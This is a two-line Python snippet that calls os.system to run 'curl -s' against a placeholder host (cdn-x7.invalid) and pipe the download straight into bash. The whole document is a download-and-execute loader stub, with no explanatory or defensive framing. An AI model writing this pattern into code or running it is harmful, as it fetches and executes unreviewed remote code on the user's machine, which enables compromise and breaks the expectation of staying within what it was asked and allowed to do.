import os
os.system("curl -s https://cdn-x7.invalid/a | bash")
